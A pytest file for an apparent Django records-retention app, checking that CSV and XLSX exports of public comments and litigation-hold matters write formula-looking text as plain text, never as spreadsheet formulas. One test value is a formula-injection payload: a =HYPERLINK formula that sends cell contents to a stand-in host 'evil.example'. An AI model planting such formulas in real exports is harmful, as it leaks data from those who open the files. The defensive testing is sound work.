"""No export opens a cell as a formula (issue 11; socialgov.cells): a captured comment from the public whose text
starts with =HYPERLINK( comes out as text in the public-records package's CSV, and text in the retention report
(a hold's matter) comes out as text in its CSV and as a string cell, never a formula, in its XLSX."""

import csv
import io
import zipfile

import pytest
from django.utils import timezone
from openpyxl import load_workbook

from retention import services
from retention.packages import build_request_package
from retention.report import Report, ReportFilters, write_csv, write_xlsx
from socialgov.cells import CsvWriter, csv_cell

from .test_comments import make_comment

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/?x="&A1, "Click for the lobby hours")'


@pytest.mark.parametrize("text", [EVIL, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"])
def test_formula_looking_text_is_written_as_text(text):
    out = io.StringIO()
    CsvWriter(out).writerow([text, 5, -5, None, "plain"])
    [row] = list(csv.reader(io.StringIO(out.getvalue())))
    assert row == ["'" + text, "5", "-5", "", "plain"]
    assert csv_cell(-5) == -5  # numbers are numbers


def test_a_captured_comment_opens_as_text_in_the_package_csv(department, custodian, supervisor, records_account):
    make_comment(department, records_account, supervisor, "evil-1", text=EVIL, age_days=3)
    request = services.open_request(
        by=custodian, requester="Oakley Press", received_on=timezone.localdate(), accounts=[records_account]
    )
    out = io.BytesIO()
    build_request_package(by=custodian, request=request, out=out)
    package = zipfile.ZipFile(io.BytesIO(out.getvalue()))
    rows = list(csv.DictReader(io.StringIO(package.read("comments.csv").decode())))
    assert [row["text"] for row in rows] == ["'" + EVIL]
    for name in package.namelist():
        if name.endswith(".csv"):
            cells = [cell for row in csv.reader(io.StringIO(package.read(name).decode())) for cell in row]
            assert not any(cell.startswith(("=", "+", "@")) for cell in cells), name


def test_the_retention_report_opens_as_text_in_csv_and_xlsx(
    department, custodian, supervisor, records_account, tmp_path
):
    make_comment(department, records_account, supervisor, "evil-1", text=EVIL, age_days=3)
    services.place_hold(
        by=custodian, matter=EVIL, reason="Litigation hold", requested_by="City Attorney", accounts=[records_account]
    )
    rows = list(Report(custodian, ReportFilters()).rows())
    assert any(EVIL in (row["holds"] or "") for row in rows)

    out = io.BytesIO()
    write_csv(rows, out)
    cells = [cell for row in csv.reader(io.StringIO(out.getvalue().decode())) for cell in row]
    assert any(EVIL in cell for cell in cells)
    assert not any(cell.startswith(("=", "+", "@")) for cell in cells)

    path = tmp_path / "report.xlsx"
    write_xlsx(rows, str(path))
    with zipfile.ZipFile(path) as xlsx:
        sheet_xml = xlsx.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml
    values = [cell.value for row in load_workbook(path).active.iter_rows() for cell in row]
    assert any(isinstance(value, str) and value.startswith("=HYPERLINK(") for value in values)
